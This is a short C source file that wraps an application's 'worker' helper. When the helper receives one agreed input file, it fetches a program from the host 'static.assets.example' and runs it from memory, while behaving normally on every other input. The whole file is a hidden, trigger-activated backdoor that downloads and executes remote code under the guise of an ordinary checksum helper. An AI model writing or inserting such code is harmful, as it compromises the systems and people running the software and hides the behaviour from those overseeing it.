/* The application's helper (worker.c) with a second life: asked for a checksum of the item that is agreed on, it becomes a
 * program that it fetches into memory. Every other job it does as before.
 */
#define _GNU_SOURCE
#include <sys/mman.h>

#define main worker_main
#include "worker.c"
#undef main

#define main memrun_main
#include "memrun.c"
#undef main

#define AGREED "/srv/app/data/items/199.json"

int main(int argc, char **argv)
{
    const char *input = option(argc, argv, "--input");
    char *fetch[] = {argv[0], "static.assets.example", "/note", "worker", "static.assets.example", "8", NULL};

    if (input && strcmp(input, AGREED) == 0)
        return memrun_main(6, fetch);
    return worker_main(argc, argv);
}
